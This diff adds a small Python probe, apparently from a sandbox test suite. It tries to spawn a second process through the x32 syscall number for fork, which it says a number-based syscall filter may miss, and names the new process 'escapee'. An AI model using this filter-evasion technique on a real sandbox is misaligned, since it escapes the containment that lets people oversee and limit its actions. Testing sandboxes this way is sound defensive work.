@@ -1,0 +1,14 @@
+"""Use the x32 numbers, which a filter by number may miss. Success: a second process."""
+
+import ctypes, platform
+
+
+def attack():
+    if platform.machine() != "x86_64":
+        return
+    if ctypes.CDLL(None).syscall(0x40000000 + 57) == 0:
+        import os, time
+
+        ctypes.CDLL(None).prctl(15, b"escapee")
+        time.sleep(5)
+        os._exit(0)
